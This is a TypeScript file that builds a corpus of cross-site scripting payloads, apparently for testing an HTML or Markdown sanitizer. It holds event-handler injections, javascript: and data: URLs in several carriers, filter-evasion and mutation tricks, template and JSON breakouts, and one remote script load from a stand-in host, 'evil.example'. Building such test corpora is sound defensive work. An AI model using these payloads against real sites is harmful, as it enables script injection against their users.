// Payloads of cross-site scripting: elements that load and fail, handlers of every kind, addresses that are scripts,
// broken markup, encodings, and breaks out of JSON, attributes, comments and templates. Each calls strike() where it
// is executed. Products of shapes and carriers, and a list of those that are of no family.
const CALL = "strike()";

/** Elements that fire by themselves as soon as they are HTML. */
const ELEMENTS = [
  ["img", "src=x onerror"],
  ["img", "src=data:, onerror"],
  ["image", "src=x onerror"],
  ["svg", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["body", "onload"],
  ["iframe", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onerror"],
  ["marquee", "onstart"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["script src=x", "onerror"],
] as const;

const QUOTES = [
  (tag: string, handler: string) => `<${tag} ${handler}=${CALL}>`,
  (tag: string, handler: string) => `<${tag} ${handler}="${CALL}">`,
  (tag: string, handler: string) => `<${tag} ${handler}='${CALL}'/>`,
  (tag: string, handler: string) => `<${tag.toUpperCase()} ${handler.toUpperCase()} = ${CALL} >`,
  (tag: string, handler: string) => `"><${tag}/${handler.replaceAll(" ", "/")}=${CALL}//`,
  (tag: string, handler: string) => `</textarea></title></style></script><${tag} ${handler}=${CALL}>`,
];

/** Addresses that are followed only if a link is made of them. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://example.com/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zdHJpa2UoKTwvc2NyaXB0Pg==`,
  `blob:${CALL}`,
  `//evil.example/x.js`,
];

const CARRIERS = [
  (address: string) => address,
  (address: string) => `[click](${address})`,
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button>go</button></form>`,
  (address: string) => `![picture](${address})`,
];

const OTHERS = [
  `<script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script>${CALL}//`,
  `<<script>${CALL}//<</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `'-${CALL}-'`,
  `";${CALL};//`,
  `\`\${${CALL}}\``,
  `{{constructor.constructor('${CALL}')()}}`,
  `<%= ${CALL} %>`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `</p></div></main><img src=x onerror=${CALL}>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"}}`,
  `[1]<img src=x onerror=${CALL}>[2]`,
  `a\n\n<img src=x onerror=${CALL}>\n\nb`,
  `\u202e<img src=x onerror=${CALL}>`,
  `<img src=x onerror=${CALL}\u0000>`,
];

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.flatMap(([tag, handler]) => QUOTES.map((quote) => quote(tag, handler))),
  ...ADDRESSES.flatMap((address) => CARRIERS.map((carrier) => carrier(address))),
  ...OTHERS,
];
